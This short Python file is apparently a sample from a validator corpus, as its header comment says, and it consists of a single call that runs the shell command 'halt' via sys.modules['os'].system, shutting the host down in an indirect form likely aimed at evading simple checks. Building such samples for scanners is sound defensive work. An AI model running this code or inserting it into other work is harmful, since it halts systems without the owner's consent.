# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os
import sys

sys.modules["os"].system("halt")
